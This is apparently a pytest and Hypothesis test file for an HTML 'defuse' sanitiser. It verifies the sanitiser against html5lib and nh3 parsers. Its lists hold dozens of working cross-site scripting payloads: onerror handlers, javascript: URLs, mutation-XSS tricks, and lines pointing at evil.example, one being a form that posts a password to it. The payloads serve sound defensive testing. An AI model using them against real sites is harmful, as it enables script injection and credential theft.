"""What is typed comes back as typed, and what would act does not act: proved by parsers that are not ours."""

from __future__ import annotations

import re
import sys
import warnings
from collections.abc import Callable, Iterator
from itertools import count
from types import FrameType

import html5lib
import nh3
import pytest
from html5lib.constants import DataLossWarning
from html5lib.serializer import HTMLSerializer
from hypothesis import given, settings
from hypothesis import strategies as st

from bugrelay.infra.text.markup import WORD_JOINER, defuse
from tests.examples import examples

ANY_TEXT = st.text(max_size=80)


# What the HTML standard runs, frames or styles by its mere presence, and what is read by other rules.
FORBIDDEN_ELEMENTS = frozenset(
    {
        *("script", "style", "iframe", "frame", "frameset", "noscript", "svg", "math", "noembed", "noframes"),
        *("plaintext", "xmp", "listing", "portal", "fencedframe"),
    }
)


URL_ATTRIBUTES = (
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "background",
    "cite",
    "srcset",
    "ping",
)


HANDLERS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle")


# Elements that act only with one of these, where it has a value.
ACTING = {
    "object": ("data",),
    "embed": ("src",),
    "base": ("href",),
    "link": ("href", "rel"),
    "meta": ("http-equiv",),
}


def problem_of(element: str, attribute: str, value: str) -> str | None:
    """Say what is wrong with an attribute of a parsed element, if anything is."""
    acts = (
        (attribute.startswith("on") and value)
        or attribute in (*HANDLERS, "style", "srcdoc")
        or (attribute in ACTING.get(element, ()) and value)
        or (
            (attribute in URL_ATTRIBUTES or attribute.endswith("href"))
            and re.match(r"(?:javascript|vbscript|data):", re.sub(r"[\x00-\x20]", "", value), re.IGNORECASE)
        )
    )
    return f"<{element} {attribute}={value!r}>" if acts else None


def problems_of_html5lib(markup: str, *, container: str = "div", scripting: bool = True) -> Iterator[str]:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DataLossWarning)
        tree = html5lib.parseFragment(markup, container=container, scripting=scripting)
    for node in tree.iter():
        if not isinstance(node.tag, str):
            continue
        element = node.tag.rpartition("}")[2].lower()
        if element in FORBIDDEN_ELEMENTS:
            yield f"<{element}>"
        for name, value in node.attrib.items():
            if problem := problem_of(element, str(name).rpartition("}")[2].lower(), value):
                yield problem


def problems_of_nh3(markup: str) -> list[str]:
    """Let nh3 pass everything and note down what it sees."""
    seen: list[str] = []

    def note(element: str, attribute: str, value: str) -> str:
        if problem := problem_of(element, attribute, value):
            seen.append(problem)
        return value

    cleaner = nh3.Cleaner(
        tags=FORBIDDEN_ELEMENTS | {"a", "b", "p", "img", "form", "input", "button", "div", "object", "embed"},
        attributes={"*": {*URL_ATTRIBUTES, *HANDLERS, "style", "srcdoc"}},
        attribute_filter=note,
        clean_content_tags=set(),
        url_schemes={"http", "https", "javascript", "vbscript", "data"},
        link_rel=None,
    )
    cleaned = cleaner.clean(markup)
    return seen + re.findall(rf"<(?:{'|'.join(FORBIDDEN_ELEMENTS)})[\s>/]", cleaned)


def copied(markup: str, *, scripting: bool) -> str:
    """Return what a page's `innerHTML` gives back, in the manner of browsers that leave `<` in attributes."""
    tree = html5lib.parseFragment(markup, scripting=scripting)
    serializer = HTMLSerializer(quote_attr_values="always", omit_optional_tags=False)
    return str(serializer.render(html5lib.getTreeWalker("etree")(tree)))


def problems_of(markup: str) -> list[str]:
    """Return all that would act in a page that shows the markup, or shows a copy of what it showed."""
    problems = problems_of_nh3(markup)
    for scripting in (True, False):
        problems += problems_of_html5lib(markup, scripting=scripting)
        problems += problems_of_html5lib(copied(markup, scripting=scripting), scripting=True)
    for container in ("table", "select", "p"):
        problems += problems_of_html5lib(markup, container=container)
    return problems


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example>",
    "<script/x>alert(1)</script >",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<img src='x'onerror=alert(1)>",
    '<img src="x"onerror="alert(1)">',
    "<img\nsrc=x\nonerror\n=\nalert(1)>",
    "<img\fsrc=x\fonerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<img alt=">" onerror=alert(1) src=x>',
    "<img src=x onerror>",
    "<x onclick=alert(1)>press</x>",
    "<1><x/onclick=alert(1)>press",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<svg><animate attributeName=href to=javascript:alert(1)>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" \n javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A&#x61vascript&colon;alert(1)">x</a>',
    '<a href="java&Tab;scr&NewLine;ipt&colon;alert(1)">x</a>',
    '<a href="&#0000000000000000000000000000000000000000106avascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    "<a href=vbscript:x>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<form action=javascript:alert(1)><button>x",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>*{display:none}</style>",
    "<p style='position:fixed'>x</p>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title></title><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<?x ><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "use `<script>alert(1)</script>` here",
]


# Parsers see nothing act here, but it would with other text around it or by a person's click.
CAUTIOUS = [
    "<script",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)",
    "<body onload=alert(1)>",
    "<form action=https://evil.example/><input name=password>",
    "<button formaction=//evil.example>x",
    "<frameset><frame src=javascript:alert(1)>",
    "<!-- <img src=x onerror=alert(1)> -->",
    "<!DOCTYPE x [<img src=x onerror=alert(1)>]>",
    "<p title='</p><img src=x onerror=alert(1)>'>",
]


# Tags that the text leaves open: alone they do nothing, but whatever stands behind them in a page goes on with them.
OPEN = [
    "<img src=x",
    "<img",
    "<im",
    "<",
    "</",
    "<img alt='",
    '<a title="x" ',
    "x<y",
    "if (a<b) { return c; }",
    "for (i=0;i<n;i++) s += a[i];",
    "<b>bold</b> <i",
]


HARMLESS = [
    "",
    "if (a<b && c>d) { return c; }",
    "for (i=0; i < n; i++) s += a[i];",
    "<b><i>x</i></b>",
    "<item id=\"1\" name='a > b'/>",
    "a < b && c > d",
    "5 > 3",
    "std::vector<int> v; v<<1;",
    "#include <stdio.h>",
    "List<String>",
    "Map<K, List<V>>",
    "<T extends Base>",
    "Vec<u8>",
    "List<Object>",
    "Option<Link>",
    '<Link to="/home">Home</Link>',
    "a <b only if c> d",
    "C:\\<dir>\\*",
    "<div>",
    "<b>bold</b>",
    "`<div class='x'>` in a code span",
    '<a href="https://example.com/?a=1&b=2">link</a>',
    '<a href="/relative#x">link</a>',
    '<a href="mailto:a@example.com">mail</a>',
    '<a href="tel:+4912345">call</a>',
    "<img src=logo.png alt='a logo'>",
    "<img src=x/onerror=alert(1)>",
    '<form action="/login" method="post">',
    "<!-- a comment -->",
    "<!DOCTYPE html>",
    '<?xml version="1.0"?>',
    "<?php echo 1; ?>",
    "<![CDATA[x]]>",
    "</ div>",
    "<>",
    "< script>alert(1)</ script>",
    "&lt;script&gt;",
    "&amp;",
    "&#106;avascript:alert(1)",
    "data: URL",
    "data:text/html,hello",
    "javascript:alert(1)",
    "onerror=alert(1)",
    "style='x'",
    "SELECT * FROM t WHERE a<'x' OR 1=1; DROP TABLE t;--",
    "日本語 العربية עברית हिन्दी 🎉👩‍👩‍👧",
    "نمی‌شود",
    "<日本>",
]


@pytest.mark.parametrize("text", HOSTILE + CAUTIOUS)
def test_markup_that_acts_runs_nothing_afterwards(text: str) -> None:
    assert not problems_of(defuse(text))


@pytest.mark.parametrize("text", HOSTILE + CAUTIOUS + OPEN)
def test_markup_that_acts_is_still_read_as_it_was_typed(text: str) -> None:
    harmless = defuse(text)
    assert harmless != text
    assert harmless.replace("<" + WORD_JOINER, "<") == text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_comes_back_unchanged(text: str) -> None:
    assert defuse(text) == text


@pytest.mark.parametrize("text", HOSTILE)
def test_the_oracle_sees_what_acts(text: str) -> None:
    # Without this the tests above would hold with an oracle that is blind.
    assert problems_of(text)


# How a page may put two texts side by side.
SEPARATORS = ("", " ", ", ", "</h1><p>")


GOING_ON = (
    " x onerror=alert(1)>",
    "img src=x onerror=alert(1)>",
    "nclick=alert(1)>press",
    "=alert(1)>",
    "cript>alert(1)</script>",
    "' onerror=alert(1) src=x>",
    '" src=x onerror=alert(1)>',
    " onerror=alert(1) //",
    " autofocus tabindex=0 onfocus=alert(1)>",
)


@pytest.mark.parametrize("separator", SEPARATORS)
@pytest.mark.parametrize("second", GOING_ON)
@pytest.mark.parametrize("first", [*OPEN, "<img src=x o", "<s", "<img src=x onerror"])
def test_no_text_continues_a_tag_that_the_text_before_it_left_open(
    first: str, second: str, separator: str
) -> None:
    page = f"<h1>{defuse(first)}{separator}{defuse(second)}</h1>"
    assert not list(problems_of_html5lib(page))


def test_the_oracle_sees_a_tag_that_two_texts_make() -> None:
    assert list(problems_of_html5lib("<h1><img src=x x onerror=alert(1)></h1>"))
    assert list(
        problems_of_html5lib("<h1>" + '<img title="' + "</h1><p>" + '" src=x onerror=alert(1)>' + "</p>")
    )


TOKENS = (
    *(
        "<",
        "</",
        "<!--",
        "-->",
        "--!>",
        "<!",
        "<?",
        "<![CDATA[",
        "]]>",
        ">",
        "/>",
        "/",
        " ",
        "\n",
        "\t",
        "\f",
    ),
    *("=", '"', "'", "`", "''", "script", "SCRIPT", "style", "iframe", "svg", "math", "img", "a", "b", "p"),
    *(
        "noscript",
        "textarea",
        "title",
        "template",
        "object",
        "embed",
        "link",
        "meta",
        "base",
        "form",
        "table",
    ),
    *("select", "xmp", "plaintext", "mglyph", "mtext", "foreignObject", "onerror=", " onerror", " onclick ="),
    *(" style=", " style", " srcdoc=", " href=", " src=", " data=", " action=", " xlink:href=", " title="),
    *(
        "http-equiv=",
        " rel=",
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "&#106;avascript:",
        "&#x6A",
        "x",
    ),
    *(
        "javascript&colon;",
        "vbscript:",
        "data:",
        "//e.example",
        "alert(1)",
        "&lt;",
        "&gt;",
        "&quot;",
        "&amp;",
    ),
    *(
        "<script>",
        "</script>",
        "</style>",
        "</textarea>",
        "</noscript>",
        '<p title="',
        "<img src=x onerror=1>",
    ),
    *("&lt;img src=x onerror=1&gt;", "&lt;/noscript&gt;", WORD_JOINER, "é", "\x01"),
)


MARKUP = st.lists(st.sampled_from(TOKENS), min_size=2, max_size=14).map("".join)


@settings(max_examples=examples(2000))
@given(MARKUP)
def test_no_mixture_of_tokens_acts(text: str) -> None:
    assert not problems_of(defuse(text))


@settings(max_examples=examples(1500))
@given(
    st.lists(MARKUP | st.sampled_from((*OPEN, *GOING_ON)), min_size=2, max_size=3),
    st.sampled_from(SEPARATORS),
)
def test_no_two_or_three_texts_act_together(texts: list[str], separator: str) -> None:
    page = f"<h1>{separator.join(defuse(text) for text in texts)}</h1>"
    assert not list(problems_of_html5lib(page))


@settings(max_examples=examples(1000))
@given(MARKUP | ANY_TEXT)
def test_defusing_only_inserts_word_joiners_and_only_once(text: str) -> None:
    harmless = defuse(text)
    assert harmless.replace(WORD_JOINER, "") == text.replace(WORD_JOINER, "")
    assert defuse(harmless) == harmless


@given(st.text(st.characters(exclude_characters="<")))
def test_text_without_a_less_than_is_never_touched(text: str) -> None:
    assert defuse(text) == text


@pytest.mark.parametrize(
    "pattern",
    [
        "<",
        "<a ",
        "<a",
        "<a a=",
        "<a/a=",
        "<a/href=",
        "<a/href=&#9;",
        '<a a="',
        "<a a='\"",
        "='",
        "<a on= ",
        "x<y ",
    ],
)
def test_hostile_repetition_costs_time_in_proportion(pattern: str) -> None:
    # Quadratic work would be 64 times as much for 8 times the length.
    assert work_of(pattern, length=40_000) < 12 * work_of(pattern, length=5_000)


@pytest.mark.parametrize("hostile", ["<a x='", "<a x=\"'", "<a href=x ", "<a/a=", "x<y ", "<a on= ", "<a "])
def test_the_worst_markup_costs_little_more_than_ordinary_markup_of_the_same_size(hostile: str) -> None:
    assert work_of(hostile, length=5_000) < 4 * work_of('<p title="a" id=b>', length=5_000)


UNSEEN = count()


def work_of(pattern: str, *, length: int) -> int:
    """Return what it takes to defuse so much of the pattern, of which nothing is remembered."""
    text = f"{next(UNSEEN)} <a " + pattern * (length // len(pattern)) + ">"
    return calls_of(lambda: defuse(text))


def calls_of(work: Callable[[], object]) -> int:
    """Return how many calls of functions a piece of work makes: a measure that knows no clock."""
    calls = 0

    def note(_frame: FrameType, event: str, _argument: object) -> None:
        nonlocal calls
        calls += event in ("call", "c_call")

    sys.setprofile(note)
    try:
        work()
    finally:
        sys.setprofile(None)
    return calls
